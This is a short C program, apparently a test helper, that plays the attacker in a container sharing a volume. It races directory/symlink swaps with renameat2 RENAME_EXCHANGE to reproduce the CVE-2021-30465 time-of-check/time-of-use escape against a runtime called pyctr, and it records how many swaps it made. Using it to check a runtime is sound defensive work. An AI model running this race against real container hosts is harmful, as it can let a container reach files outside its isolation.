/* An attacker in a container that shares a volume with another container:
 * it swaps two entries of the volume, a directory and a symlink, as fast as it
 * can, so that a path pyctr checked while it was a directory is a symlink
 * when pyctr uses it (CVE-2021-30465).
 *
 *   flipper DIR A B RESULT STOPFILE SECONDS
 *
 * Exchanges DIR/A and DIR/B (renameat2 RENAME_EXCHANGE) until STOPFILE exists
 * (or SECONDS pass), then writes "flips N" to RESULT.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc != 7) {
        fprintf(stderr, "usage: flipper DIR A B RESULT STOPFILE SECONDS\n");
        return 2;
    }
    int dir = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (dir < 0)
        return 1;
    double deadline = now() + atof(argv[6]);
    long flips = 0;
    for (;;) {
        if (renameat2(dir, argv[2], dir, argv[3], RENAME_EXCHANGE) == 0)
            flips++;
        if (flips % 4096 == 0 && (now() > deadline || access(argv[5], F_OK) == 0))
            break;
    }
    /* Written whole, then renamed: whoever waits for RESULT never reads half of it. */
    char tmp[4096];
    snprintf(tmp, sizeof tmp, "%s.tmp", argv[4]);
    FILE *out = fopen(tmp, "w");
    if (!out)
        return 1;
    fprintf(out, "flips %ld\n", flips);
    fclose(out);
    return rename(tmp, argv[4]) != 0;
}
